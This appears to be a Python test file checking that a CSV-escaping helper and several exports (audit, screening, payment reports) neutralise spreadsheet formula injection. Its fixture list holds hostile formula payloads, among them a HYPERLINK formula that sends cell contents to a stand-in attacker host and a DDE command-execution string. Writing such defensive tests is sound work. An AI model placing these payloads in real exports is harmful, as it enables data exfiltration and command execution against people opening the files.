"""CSV exports never hand a spreadsheet a formula: party names, query ids, actors and reasons
that start with ``=``, ``+``, ``-``, ``@``, TAB or CR are written with a leading ``'``; numbers in
numeric columns stay numbers. The helper (``proscribe.csvsafe``) and the real exports."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from typer.testing import CliRunner

from proscribe import csvsafe

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = [
    HYPERLINK,
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example")',
    "=cmd|' /C calc'!A0",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate (a plain number, such as -12.5, is harmless)."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(csvsafe.FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
    ]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_starting_a_formula_are_escaped(value):
    assert csvsafe.escape_cell(value) == "'" + value
    buffer = io.StringIO()
    writer = csvsafe.SafeDictWriter(buffer, fieldnames=["name", "score"], numeric={"score"})
    writer.writeheader()
    writer.writerow({"name": value, "score": "-12.5"})
    writer.writerow({"name": "Acme", "score": value})
    rows = _cells(buffer.getvalue())
    assert rows[1] == ["'" + value, "-12.5"]  # a number in a numeric column stays a number
    assert rows[2] == ["Acme", "'" + value]  # a formula in a numeric column does not
    assert not _formula_cells(rows)


@pytest.mark.parametrize("value", [-12.5, 3, 0.0, True, None, "Acme", "12-3", "a=b", " =1"])
def test_csv_harmless_cells_are_unchanged(value):
    assert csvsafe.escape_cell(value) == value


def test_csv_plain_writer_and_header_are_escaped():
    buffer = io.StringIO()
    writer = csvsafe.SafeWriter(buffer, numeric={1})
    writer.writerow([HYPERLINK, "-1", "-1"])
    assert _cells(buffer.getvalue()) == [["'" + HYPERLINK, "-1", "'-1"]]
    buffer = io.StringIO()
    csvsafe.SafeDictWriter(buffer, fieldnames=[HYPERLINK]).writeheader()
    assert _cells(buffer.getvalue()) == [["'" + HYPERLINK]]


# -- the exports themselves (each writer calls the helper) ---------------------------------------


def test_csv_exports_escape_formula_injection(engine, store_list, tmp_path):
    """The audit CSV export, the screening CSV output and the payment report CSV: a hostile
    actor, query id or party name reaches no cell as a formula."""
    from proscribe.cases.alerts import add_user
    from proscribe.cli import app
    from proscribe.payments import reports

    store_list(1, engine)
    runner = CliRunner()
    # the audit trail: an actor and a user name chosen by whoever acts
    add_user('=HYPERLINK("http://evil.example")', ["analyst"], actor="@SUM(A1:A9)", engine=engine)
    audit_csv = tmp_path / "audit.csv"
    done = runner.invoke(app, ["audit", "export", str(audit_csv), "--format", "csv"])
    assert done.exit_code == 0, done.output
    audit_rows = _cells(audit_csv.read_text(encoding="utf-8"))
    assert any("HYPERLINK" in cell for row in audit_rows for cell in row)
    assert not _formula_cells(audit_rows), audit_rows
    # the screening output: the caller's query id and name
    queries = tmp_path / "queries.jsonl"
    queries.write_text(
        "".join(
            json.dumps(
                {"id": value, "schema": "Company", "properties": {"name": ["Acme Sanctioned Trading LLC"]}}
            )
            + "\n"
            for value in HOSTILE
        ),
        encoding="utf-8",
    )
    out = tmp_path / "results.csv"
    done = runner.invoke(
        app, ["screen", str(queries), "--output", str(out), "--format", "csv", "--workers", "1"]
    )
    assert done.exit_code == 0, done.output
    screen_rows = _cells(out.read_text(encoding="utf-8"))
    assert len(screen_rows) > len(HOSTILE) and not _formula_cells(screen_rows), screen_rows
    # the payment report: a party name from the message
    text = reports.to_csv([{"message_id": "M1", "creditor": HYPERLINK, "amount": "-12.5", "notes": "+1"}])
    assert not _formula_cells(_cells(text)), text
